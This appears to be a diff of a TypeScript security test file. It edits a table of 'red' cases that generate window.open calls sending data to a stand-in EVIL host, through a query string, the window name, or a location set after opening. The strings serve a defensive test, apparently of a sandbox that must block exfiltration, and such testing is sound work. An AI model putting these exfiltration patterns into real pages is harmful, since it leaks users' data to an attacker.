@@ -107,8 +107,8 @@ for (const [how, code] of [
   ['with data in its name', (data: string) => `window.open('${EVIL}/', '${data}')`],
   ['that knows no opener', (data: string) => `window.open('${EVIL}/?d=${data}', '_blank', 'noopener')`],
   [
-    'that is led there later',
-    (data: string) => `const w = window.open(''); setTimeout(() => { w.location = '${EVIL}/?d=${data}' }, 50)`,
+    'that is led there once it is open',
+    (data: string) => `const w = window.open(''); w.location = '${EVIL}/?d=${data}'`,
   ],
 ] as const) {
   redCase({
